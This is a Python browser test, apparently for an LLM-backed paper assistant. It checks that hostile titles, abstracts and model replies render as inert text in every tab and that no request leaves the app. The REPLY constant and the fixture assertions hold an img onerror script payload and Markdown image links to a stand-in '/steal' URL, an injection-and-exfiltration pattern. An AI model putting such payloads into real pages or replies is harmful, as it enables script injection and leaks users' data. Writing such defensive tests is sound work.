"""Hostile papers in every tab of the real app, in a real browser: titles and abstracts holding
Markdown images and links, HTML with event handlers, <script> and chat-template tokens must show as
text. The test fails on any request to another host or port, any script run from source text, and
any on* attribute inside the app's result areas. Screenshots of every tab, 1280 and 400 px wide.

The generator is scripted to quote the hostile sentences (a real model might or might not): the
store, embedder, support checks, app and browser are the real ones."""

import shutil
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from conftest import ROOT, ScriptedGenerator
from conftest import free_port
from test_ui import CHROMIUM, CHROMIUM_FLAGS, RECORD_ERROR_TOASTS, SCREENSHOTS

pytestmark = [pytest.mark.slow, pytest.mark.browser]
HOSTILE = ROOT / "tests" / "fixtures" / "hostile_ui.jsonl"
# Every host name fails to resolve, except the app's loopback address: nothing can leave the box.
FLAGS = CHROMIUM_FLAGS + ["--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"]
REPLY = ('Our method injects <img src=x onerror="window.pwned=1"> markup into sources [1]. '
         'Images ![y](http://127.0.0.1:9/steal?q=abstract) are hidden in the text [2].')
RESULT_AREAS = "#chat, #compare-result, #digest-result, #library-table, #similar-result"
HANDLERS = f"""() => [...document.querySelectorAll('{RESULT_AREAS}')].flatMap(area =>
    [...area.querySelectorAll('*')].flatMap(el => [...el.attributes]
        .filter(a => a.name.startsWith('on')).map(a => el.tagName + ' ' + a.name)))"""


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, real_embedder):
    from assistant.app import Assistant
    from assistant.settings import Settings
    from assistant.store import Store
    from assistant.ui import build_app
    from assistant.ui.serving import launch

    store = tmp_path_factory.mktemp("hostile") / "store"
    settings = Settings(store=store)
    assistant = Assistant(settings, Store(store, real_embedder.name, real_embedder.dimension),
                          real_embedder, generator=ScriptedGenerator(REPLY))
    assert assistant.ingest([HOSTILE]).added == 3
    app = build_app(assistant)
    port = free_port()
    launch(app, "127.0.0.1", port, None, settings.max_upload_mb, block=False)
    yield f"http://127.0.0.1:{port}/", assistant
    app.close()
    shutil.rmtree(store, ignore_errors=True)


@contextmanager
def guarded_page(url: str, width: int, height: int = 900):
    """A light-theme page at `url` that records every request to anything but the app."""
    from playwright.sync_api import sync_playwright

    app = urlsplit(url).netloc
    foreign: list[str] = []
    errors: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        page = browser.new_page(viewport={"width": width, "height": height})
        page.on("request", lambda r: urlsplit(r.url).scheme in ("http", "https", "ws", "wss")
                and urlsplit(r.url).netloc != app and foreign.append(r.url))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.add_init_script(RECORD_ERROR_TOASTS)
        page.goto(url + "?__theme=light")
        yield page
        pwned = page.evaluate("window.pwned")
        handlers = page.evaluate(HANDLERS)
        errors += page.evaluate("window.errorToasts")
        browser.close()
    assert foreign == [], f"requests left the app: {foreign}"
    assert pwned is None, "a script from source text ran"
    assert handlers == [], f"event-handler attributes from source text: {handlers}"
    assert errors == []


def _shot(page, name: str, width: int) -> None:
    page.screenshot(path=str(SCREENSHOTS / f"{name}-{width}.png"), full_page=True)


def _visit_every_tab(page, width: int) -> None:
    page.fill("#question textarea", "How do hostile abstracts inject markup into sources?")
    page.click("#ask")
    page.wait_for_selector("#chat details summary", timeout=60_000)
    assert "Stealing Attention ![x](http://127.0.0.1:9/steal?q=title)" in \
        page.inner_text("#chat details summary")  # shown as the text it is
    page.locator("#chat details summary").first.click()
    page.wait_for_selector("#chat details mark")
    page.click("#chat-export")
    link = page.wait_for_selector("#chat-download a").get_attribute("href")
    exported = page.request.get(link).text()
    assert "**You:** How do hostile abstracts inject markup into sources?" in exported
    assert "Stealing Attention \\!\\[x\\](http\\://127.0.0.1:9" in exported  # inert Markdown
    _shot(page, "chat", width)
    page.get_by_role("tab", name="Compare").click()
    papers = page.locator("#compare-papers input")
    for typed in ("Stealing", "Plain Paper"):
        papers.click()
        papers.type(typed)
        page.locator("[role=option]").filter(has_text=typed).first.click()
    papers.press("Escape")
    page.click("#compare-run")
    page.wait_for_selector("#compare-result table th:nth-child(3)", timeout=60_000)
    page.wait_for_selector("#compare-result details summary")
    links = [a.get_attribute("href") for a in page.query_selector_all("#compare-download a")]
    assert {".md", ".csv"} <= {Path(link).suffix for link in links}, links
    _shot(page, "compare", width)
    page.get_by_role("tab", name="Digest").click()
    page.check("#digest-all input")
    page.click("#digest-run")
    page.wait_for_selector("#digest-result h1", timeout=60_000)
    page.wait_for_selector("#digest-download a")
    assert "digest-all_dates" in page.inner_text("#digest-download")
    button, download = (page.locator(f"#{name}").bounding_box() for name in ("digest-run", "digest-download"))
    assert download["y"] < button["y"] + button["height"] + 150, (button, download)  # by the button
    assert "![x](http://127.0.0.1:9/steal?q=title)" in page.inner_text("#digest-result")
    _shot(page, "digest", width)
    page.get_by_role("tab", name="Library").click()
    _library(page)
    _shot(page, "library", width)


def _library(page) -> None:
    """Similar papers of a hostile one, then delete it (confirmed) and undo that."""
    row = page.locator("#library-table").get_by_text("Stealing Attention", exact=False).filter(
        visible=True).first
    row.click()
    page.wait_for_function("() => document.querySelector('#paper-id textarea, #paper-id input')"
                           ".value.length > 0")
    page.click("#similar")
    page.wait_for_selector("#similar-result details summary")
    assert "A Plain Paper" in page.inner_text("#similar-result")
    page.click("#delete")
    page.locator("#delete-summary").get_by_text("Delete Stealing Attention", exact=False).wait_for()
    page.click("#confirm-delete")
    page.locator("#delete-summary").get_by_text("Deleted", exact=False).wait_for()
    page.click("#undo-delete")
    page.locator("#delete-summary").get_by_text("Restored Stealing Attention", exact=False).wait_for()
    page.locator("#library-table").get_by_text("Stealing Attention", exact=False).filter(
        visible=True).first.wait_for()


def test_hostile_papers_stay_text_in_every_tab(hostile_app):
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    for width in (1280, 400):
        with guarded_page(hostile_app[0], width) as page:
            _visit_every_tab(page, width)
            if width == 400:
                _check_narrow(page)


def _check_narrow(page) -> None:
    """At 400 px the chat input and the library table are still usable: on screen, wide enough."""
    page.get_by_role("tab", name="Chat").click()
    box = page.locator("#question textarea").bounding_box()
    ask = page.locator("#ask").bounding_box()
    assert box["width"] >= 200 and box["x"] + box["width"] <= 400, box
    assert ask["x"] + ask["width"] <= 400, ask
    page.get_by_role("tab", name="Library").click()
    cell = page.locator("#library-table").get_by_text("A Plain Paper", exact=False).filter(
        visible=True).first.bounding_box()
    assert cell["width"] >= 120, cell
